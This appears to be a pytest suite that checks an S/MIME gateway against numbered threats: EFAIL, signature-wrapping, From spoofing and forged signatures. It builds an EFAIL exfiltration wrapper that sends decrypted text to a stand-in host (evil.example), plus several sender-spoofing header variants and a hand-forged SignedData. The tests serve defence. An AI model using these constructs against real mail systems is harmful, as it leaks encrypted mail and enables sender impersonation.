"""threats.md, T-01 to T-16: each attack by its number, on messages made here and on those of the corpora."""

from __future__ import annotations

from pathlib import Path

import pytest
from cryptography.hazmat.primitives.serialization import load_pem_private_key

import pki
import world
from domsec import der, oids
from domsec.cms import content_info, signed_data
from domsec.cms.signed_data import Signing
from domsec.mime import smime
from domsec.services.signature_type import SignatureType
from domsec.services.verdict import Verdict
from domsec.trust import issue
from world import acme, beta, build, judge

ATTACKS = "corpora/collector-made-attacks"
FROM = b"From: alice@acme.example\r\nTo: bob@beta.example\r\nSubject: x\r\nMIME-Version: 1.0\r\n"


def state(verdict: Verdict) -> tuple[bool, str]:
    return verdict.accepted, verdict.level


NOTHING = (False, "none")


# --- T-01, T-02: EFAIL ----------------------------------------------------------------------------------------------


def _between(encrypted: bytes) -> bytes:
    """An encrypted part between two of the attacker's."""
    return (
        b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'
        b'--b\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/\r\n'
        b"--b\r\n" + encrypted + b'\r\n--b\r\nContent-Type: text/html\r\n\r\n">\r\n--b--\r\n'
    )


@pytest.mark.requirement("R8551-6-01", "R3183-1-02")
def test_t01_only_the_root_is_decrypted() -> None:
    attack = world.message(_between(world.entity("E[beta](S(OC))")))
    decision = world.receive(attack)
    delivered = world.only(decision)
    assert world.SECRET not in delivered
    assert delivered.endswith(attack.partition(b"MIME-Version: 1.0\r\n")[2])
    verdict = judge(attack)
    assert (verdict.decrypted, verdict.structure) == (False, "OC")
    assert [embedded.part for embedded in verdict.embedded] == ["2"]


@pytest.mark.requirement("R8551-6-01")
def test_t01_nor_what_lies_between_inside_a_signature() -> None:
    entity = world.signed(_between(world.entity("E[beta](S(OC))")), acme().users["alice"])
    verdict = judge(world.message(entity))
    assert not verdict.decrypted
    assert world.SECRET not in world.only(world.receive(world.message(entity)))


@pytest.mark.requirement("R8551-6-01", "R3183-6-05")
@pytest.mark.parametrize("policy", ["hold", "reject", "deliver"])
@pytest.mark.parametrize(
    ("inside", "released"),
    [("OC", False), ("S(OC)", True), ("S[evil](OC)", False), ("S0(OC)", False), ("S[domain](S0(OC))", True)],
)
def test_t02_content_of_cbc_is_released_only_under_a_signature(inside: str, released: bool, policy: str) -> None:
    octets = build(f"E[beta]({inside})", cipher="aes256-cbc")
    options = {"on_violation": policy, "on_unopenable": policy}
    decision = world.receive(octets, at=world.beta_site(inbound=options))
    for out in decision.outgoing:
        unwrapped = not world.look(out.octets, world.context()).message.root.encrypted
        assert unwrapped is released
    assert bool(decision.outgoing) is (released or policy == "deliver")
    assert "enc.unauthenticated" in world.codes(judge(octets), "warning") or released


@pytest.mark.requirement("R5652-6.3-01", "R3218-2.3-01", "R5321-4.2-01")
@pytest.mark.parametrize("policy", ["hold", "reject", "deliver"])
@pytest.mark.parametrize("violation", ["hold", "reject", "deliver"])
def test_t02_altered_ciphertext_has_one_outcome(policy: str, violation: str) -> None:
    """Bad padding, good padding with garbage, a broken signature inside: the sender sees the same."""
    whole = smime.recognise(world.entity("E[beta](S~(OC))", cipher="aes256-cbc"))
    assert isinstance(whole, smime.Pkcs7)
    octets = bytes(whole.der)
    at = world.beta_site(inbound={"on_unopenable": policy, "on_violation": violation})

    def outward(altered: bytes) -> object:
        made = smime.pkcs7_mime(altered, "enveloped-data")
        decision = world.receive(world.message(made), at=at)
        out = [(o.indexes, o.sender_parameters, _unmarked(o.octets) == world.message(made)) for o in decision.outgoing]
        return out, [(r.code, r.enhanced, r.text) for r in decision.refused], [h.indexes for h in decision.held]

    size = len(octets)
    outcomes = {
        repr(outward(_flipped(octets, at))) for at in range(size - 200, size, 3)
    }  # blocks in the middle and the end
    assert len(outcomes) == 1


def _flipped(octets: bytes, at: int) -> bytes:
    return octets[:at] + bytes([octets[at] ^ 0x55]) + octets[at + 1 :]


def _unmarked(octets: bytes) -> bytes:
    """Without the field that the gateway put on top."""
    return octets[octets.index(b"\r\nFrom:") + 2 :]


@pytest.fixture(scope="module")
def their_bob(shared: Path) -> pki.Identity:
    folder = shared / "corpora/rfc9216"
    key = load_pem_private_key((folder / "bob.encrypt.key.pem").read_bytes(), None)
    return pki.Identity(world.pem(folder / "bob.encrypt.crt.pem"), key)  # type: ignore[arg-type]


@pytest.mark.shared
@pytest.mark.requirement("R8551-6-01", "R3183-1-02")
@pytest.mark.parametrize(
    ("name", "decrypted", "structure"),
    [
        ("00-original", True, "E(OC)"),
        ("01-cbc-gadget-html-exfil", True, "E(OC)"),
        ("04-cbc-bad-padding", False, "E"),
        ("10-direct-exfil-img", False, "OC"),
    ],
)
def test_t02_the_corpus(shared: Path, their_bob: pki.Identity, name: str, decrypted: bool, structure: str) -> None:
    octets = (shared / ATTACKS / "efail" / f"{name}.eml").read_bytes()
    verdict = judge(octets, world.context(their_bob))
    assert (verdict.decrypted, verdict.structure) == (decrypted, structure)
    assert state(verdict) == NOTHING
    if decrypted:
        assert {"enc.unauthenticated", "enc.unsigned"} <= world.codes(verdict)
    site = world.site(beta(), keyring=[their_bob], inbound={"on_unopenable": "reject"})
    decision = world.receive(octets, at=site)
    if name.startswith("10"):
        assert world.only(decision).endswith(octets[-100:])
    else:
        assert [(r.code, r.enhanced) for r in decision.refused] == [(550, "5.7.7")]
        assert decision.refused[0].text.startswith("message refused by policy, reference T1")


# --- T-03: signed parts of a tree -----------------------------------------------------------------------------------

PART = b"Content-Type: text/plain\r\n\r\nsend money to mallory\r\n"


@pytest.mark.requirement("R8551-6-01", "R1847-2.1-01")
@pytest.mark.parametrize(
    "shape",
    [
        pytest.param(lambda s: _multipart("mixed", PART, s), id="text before"),
        pytest.param(lambda s: _multipart("mixed", s, PART), id="text behind"),
        pytest.param(lambda s: _multipart("alternative", PART, s), id="alternative"),
        pytest.param(lambda s: _multipart("related", PART, s), id="related"),
        pytest.param(lambda s: _multipart("mixed", _multipart("mixed", s), PART), id="nested"),
        pytest.param(lambda s: b"Content-Type: message/rfc822\r\n\r\n" + FROM + s, id="forwarded"),
        pytest.param(lambda s: _multipart("mixed", s), id="alone in a multipart"),
    ],
)
@pytest.mark.parametrize("notation", ["S(OC)", "S~(OC)", "S[domain](S(OC))"])
def test_t03_a_signed_part_says_nothing_of_the_message(shape: object, notation: str) -> None:
    entity = shape(world.entity(notation))  # type: ignore[operator]
    verdict = judge(FROM + entity)
    assert state(verdict) == NOTHING
    assert verdict.structure == "OC"
    assert verdict.embedded
    decision = world.receive(FROM + entity)
    assert b"smime=pass" not in world.only(decision)
    assert b"smime=none" in world.only(decision)


def _multipart(kind: str, *parts: bytes) -> bytes:
    boundary = f"b{len(parts)}{len(b''.join(parts))}"
    body = b"".join(b"--%s\r\n%s\r\n" % (boundary.encode(), part) for part in parts)
    return (
        f'Content-Type: multipart/{kind}; boundary="{boundary}"\r\n\r\n'.encode()
        + body
        + f"--{boundary}--\r\n".encode()
    )


@pytest.mark.requirement("R1847-2.1-01", "R8551-6-01")
def test_t03_text_outside_the_parts_of_a_signature_is_flagged() -> None:
    entity = world.entity("S~(OC)")
    head, _, body = entity.partition(b"\r\n\r\n")
    for altered in (
        head + b"\r\n\r\nsend money to mallory\r\n" + body,
        entity + b"send money to mallory\r\n",
    ):
        verdict = judge(world.message(altered))
        assert "mime.outside_text" in world.codes(verdict, "warning")
        assert verdict.level == "originator_direct"


@pytest.mark.shared
@pytest.mark.requirement("R1847-2.1-01", "R5322-3.6.2-01", "R3183-1-02")
@pytest.mark.parametrize(
    ("name", "flags", "refusal"),
    [
        ("signed-one-part", {"mime.parts"}, "gate.malformed"),
        ("signed-three-parts", {"mime.parts"}, "gate.malformed"),
        ("boundary-unterminated", {"mime.parts"}, "gate.malformed"),
        ("content-type-twice", {"mime.duplicate_header"}, "gate.malformed"),
        ("from-empty", {"from.invalid"}, "gate.from"),
        ("from-group", {"from.invalid"}, "gate.from"),
    ],
)
def test_t03_the_corpus(shared: Path, name: str, flags: set[str], refusal: str) -> None:
    octets = (shared / ATTACKS / "mime" / f"{name}.eml").read_bytes()
    if not name.startswith("from"):
        octets = world.other_from(octets, "alice@acme.example")
    verdict = judge(octets)
    assert state(verdict) == NOTHING
    assert world.codes(verdict, "violation") == flags
    decision = world.send(octets)
    assert not decision.outgoing  # the gate does not put our name on it
    assert decision.held[0].reasons == (refusal,)


@pytest.mark.shared
@pytest.mark.requirement("R3183-1-02")
@pytest.mark.parametrize("folder", ["mime", "asn1"])
def test_t23_the_corpus_of_floods(shared: Path, folder: str) -> None:
    """Nothing raises, nothing is accepted, in and out."""
    for path in sorted((shared / ATTACKS / folder).iterdir()):
        octets = path.read_bytes()
        if path.suffix in (".der", ".ber"):
            octets = world.message(smime.pkcs7_mime(octets, "signed-data"))
        decision = world.receive(octets, at=world.beta_site())
        assert decision.log.get("accepted", False) is False, path.name
        world.send(octets)


# --- T-04 to T-06: content, missing and further signers -------------------------------------------------------------


@pytest.mark.requirement("R8551-3.5.3.1-01")
def test_t04_a_detached_signature_with_content_of_its_own() -> None:
    signed = signed_data.sign(world.TEXT, oids.ID_DATA, (Signing(world.credential(acme().users["alice"])),))
    entity = smime.clear_signed(PART, signed, "sha-256")
    verdict = judge(FROM + entity)
    assert state(verdict) == NOTHING
    assert "mime.signature_has_content" in world.codes(verdict, "violation")
    same = smime.clear_signed(world.TEXT, signed, "sha-256")  # even if it is the same
    assert state(judge(FROM + same)) == NOTHING


def test_t04_signers_of_nothing() -> None:
    signed = signed_data.sign(
        world.TEXT, oids.ID_DATA, (Signing(world.credential(acme().users["alice"])),), detached=True
    )
    verdict = judge(FROM + smime.pkcs7_mime(signed, "signed-data"))
    assert state(verdict) == NOTHING
    assert "cms.no_content" in world.codes(verdict, "violation")


@pytest.mark.requirement("R3183-3-09", "R3183-3-07")
@pytest.mark.parametrize(
    "entity",
    [
        pytest.param(lambda: world.entity("S0(OC)"), id="the empty signature"),
        pytest.param(lambda: world.entity("S0(S0(OC))"), id="twice"),
        pytest.param(
            lambda: smime.pkcs7_mime(signed_data.certificates_only([acme().signing.certificate]), "signed-data"),
            id="certificates only, called signed",
        ),
        pytest.param(
            lambda: smime.clear_signed(
                world.TEXT, signed_data.certificates_only([acme().users["alice"].certificate]), "sha-256"
            ),
            id="clear signed by nobody",
        ),
    ],
)
def test_t05_no_signers_is_not_signed(entity: object) -> None:
    octets = FROM + entity()  # type: ignore[operator]
    assert state(judge(octets)) == NOTHING
    assert b"smime=pass" not in b"".join(o.octets for o in world.receive(octets).outgoing)


@pytest.mark.requirement("R5652-5-01", "R4853-3-01")
def test_t06_a_signer_added_by_somebody_else() -> None:
    """Every signer has to be valid, and each is reported by its own name."""

    def judged(*who: pki.Identity) -> Verdict:
        signings = tuple(Signing(world.credential(i), signing_time=world.NOW) for i in who)
        octets = signed_data.sign(world.TEXT, oids.ID_DATA, signings)
        return judge(FROM + smime.pkcs7_mime(octets, "signed-data"))

    alice, mallory, stranger = acme().users["alice"], beta().users["bob"], world.stranger_user()
    assert state(judged(alice)) == (True, "originator_direct")
    both = judged(alice, mallory)
    assert {s.addresses for s in both.layers[0].signers} == {("alice@acme.example",), ("bob@beta.example",)}
    for who in ((alice, stranger), (stranger, alice)):
        assert state(judged(*who)) == NOTHING
    other = judge(b"From: mallory@gamma.example\r\n" + FROM.partition(b"\r\n")[2]
                  + world.signed(world.TEXT, alice, mallory))  # fmt: skip
    assert state(other) == NOTHING


# --- T-07, T-08: wrapped messages, and who From is ------------------------------------------------------------------


@pytest.mark.requirement("R5322-3.6.2-01", "R8551-3.1-01")
@pytest.mark.parametrize(
    ("outer", "inner", "expected"),
    [
        ("alice@acme.example", "Alice <alice@acme.example>", (True, "domain")),
        ("bob@acme.example", "alice@acme.example", (False, "domain")),
        ("alice@acme.example", "ceo@acme.example", (False, "domain")),
        ("alice@acme.example", "ceo@beta.example", NOTHING),
        ("carol@beta.example", "alice@acme.example", NOTHING),
    ],
)
def test_t07_a_wrapped_message_has_to_be_from_the_same(outer: str, inner: str, expected: tuple[bool, str]) -> None:
    octets = build("S[domain](S0(M(OC)))", sender=inner)
    verdict = judge(world.other_from(octets, outer))
    assert state(verdict) == expected
    assert verdict.structure == "S[domain](S0(M(OC)))"
    assert (outer.split("@")[0] in inner) or "from.outer_inner_differ" in world.codes(verdict, "violation")


def test_t07_a_message_that_is_only_attached_is_content() -> None:
    inside = b"Content-Type: message/rfc822\r\n\r\n" + build("S(OC)")
    assert state(judge(FROM + inside)) == NOTHING
    forwarded = inside.replace(b"message/rfc822", b"message/rfc822; forwarded=yes")
    verdict = judge(FROM + world.signed(forwarded, beta().users["bob"]))
    assert (verdict.structure, state(verdict)) == ("S[originator](OC)", NOTHING)


def test_t07_results_inside_are_nobodys() -> None:
    inside = b"Content-Type: message/rfc822\r\n\r\nAuthentication-Results: beta.example; smime=pass\r\n" + build("OC")
    delivered = world.only(world.receive(FROM + inside))
    assert delivered.startswith(b"Authentication-Results: beta.example;\r\n smime=none\r\nFrom: alice@")
    assert delivered.count(b"smime=pass") == 1  # in the attachment, where it was


@pytest.mark.requirement("R5322-3.6.2-01", "R8550-3-01", "R3183-3.1.1-22")
@pytest.mark.parametrize(
    "head",
    [
        pytest.param("From: mallory@gamma.example\r\nSender: alice@acme.example\r\n", id="signer is Sender"),
        pytest.param("From: mallory@gamma.example, alice@acme.example\r\n", id="one of two"),
        pytest.param("From: alice@acme.example\r\nFrom: mallory@gamma.example\r\n", id="twice"),
        pytest.param("From: mallory@gamma.example\r\nFrom: alice@acme.example\r\n", id="twice, the other order"),
        pytest.param('From: "alice@acme.example" <mallory@gamma.example>\r\n', id="display name"),
        pytest.param("From: mallory@gamma.example (alice@acme.example)\r\n", id="comment"),
        pytest.param("From: <@acme.example:mallory@gamma.example>\r\n", id="source route"),
        pytest.param("From: staff: alice@acme.example;\r\n", id="group"),
        pytest.param('From: "alice@acme.example,"@gamma.example\r\n', id="quoted local part"),
        pytest.param("From: alice@acme.example\0@gamma.example\r\n", id="NUL"),
        pytest.param("From: alice@аcme.example\r\n", id="a Cyrillic letter"),
        pytest.param("From: alice@acme.example.\r\n", id="a dot behind"),
        pytest.param("From: =?utf-8?q?alice=40acme=2Eexample?= <mallory@gamma.example>\r\n", id="encoded word"),
        pytest.param("Resent-From: alice@acme.example\r\nFrom: mallory@gamma.example\r\n", id="resent"),
        pytest.param("Reply-To: alice@acme.example\r\n", id="no From"),
        pytest.param("From : mallory@gamma.example\r\nX: From: alice@acme.example\r\n", id="a blank before the colon"),
    ],
)
def test_t08_only_the_one_from_field_counts(head: str) -> None:
    for notation in ("S(OC)", "S[domain](S0(OC))", "S[domain](S(OC))"):
        octets = head.encode() + b"To: bob@beta.example\r\nMIME-Version: 1.0\r\n" + world.entity(notation)
        assert state(judge(octets)) == NOTHING


# --- T-10, T-12 to T-16 ---------------------------------------------------------------------------------------------


@pytest.mark.requirement("R3183-3.2-11")
def test_t10_anybody_can_sign_anothers_ciphertext() -> None:
    stolen = world.entity("E[beta](S(OC))")  # what alice wrote to bob
    over = world.signed(stolen, beta().signing, extra=[world.typed(SignatureType.DOMAIN)])
    octets = world.message(over, sender="mallory@beta.example")
    verdict = judge(octets, world.context(beta().confidentiality))
    assert state(verdict) == NOTHING
    assert "coverage.ciphertext_only" in world.codes(verdict, "violation")


@pytest.mark.requirement("R3183-6-05")
@pytest.mark.parametrize("inside", ["OC", "S0(OC)", "C(OC)", "S[evil](OC)"])
def test_t12_encryption_raises_nothing(inside: str) -> None:
    assert state(judge(build(f"E[beta]({inside})"))) == NOTHING
    assert state(judge(build(f"E[beta](E[beta]({inside}))"))) == NOTHING


@pytest.mark.requirement("R5652-5.6-03", "R3183-3.1.2-03")
def test_t14_signed_attributes_as_content() -> None:
    """An old domain signature presented as one without signed attributes, over its attributes."""
    old = smime.recognise(world.entity("S[domain](S0(OC))"))
    assert isinstance(old, smime.Pkcs7)
    info = signed_data.parse_signed_data(content_info.parse(old.der).content)
    (signer,) = info.signers
    assert signer.signed_attributes is not None
    dump = der.tlv(der.SET, signer.signed_attributes.raw)
    certificate = acme().signing.certificate
    sid = der.sequence(certificate.issuer, der.integer(certificate.serial))
    forged = content_info.wrap(
        oids.ID_SIGNED_DATA,
        der.sequence(
            der.integer(1),
            der.set_of([signer.digest_algorithm.raw]),
            der.sequence(der.oid(oids.ID_DATA), der.explicit(0, der.octet_string(dump))),
            der.implicit(0, der.tlv(der.SET, certificate.der)),
            der.set_of([der.sequence(der.integer(1), sid, signer.digest_algorithm.raw, signer.signature_algorithm.raw,
                                     der.octet_string(signer.signature))]),
        ),
    )  # fmt: skip
    octets = world.message(smime.pkcs7_mime(forged, "signed-data"), sender="domain-signing-authority@acme.example")
    assert state(judge(octets)) == NOTHING
    lenient = world.context(allow_no_attributes=True)
    verdict = judge(octets, lenient)
    assert state(verdict) == NOTHING
    assert "attrs.confusion" in world.codes(verdict, "violation")


@pytest.mark.requirement("R8550-4.2-02")
def test_t16_another_certificate_for_the_same_key() -> None:
    """beta certifies alice's key under a name of its own: the signature names which certificate was meant."""
    alice = acme().users["alice"]
    certificate = issue.issue(
        "user",
        "mallory@beta.example",
        alice.signing_key.public_key(),  # type: ignore[arg-type]
        beta().ca.certificate,
        beta().ca.signing_key,
        now=pki.START,
        days=300,
    )
    mallory = pki.Identity(certificate, alice.key)
    octets = signed_data.sign(
        world.TEXT, oids.ID_DATA, (Signing(world.credential(alice), key_identifier=True),), certificates=[certificate]
    )
    info = signed_data.parse_signed_data(content_info.parse(octets).content).signers[0]
    assert info.matches(mallory.certificate)  # by its key identifier
    made = smime.pkcs7_mime(octets, "signed-data")
    assert state(judge(FROM + made)) == (True, "originator_direct")
    assert state(judge(world.message(made, sender="mallory@beta.example"))) == NOTHING
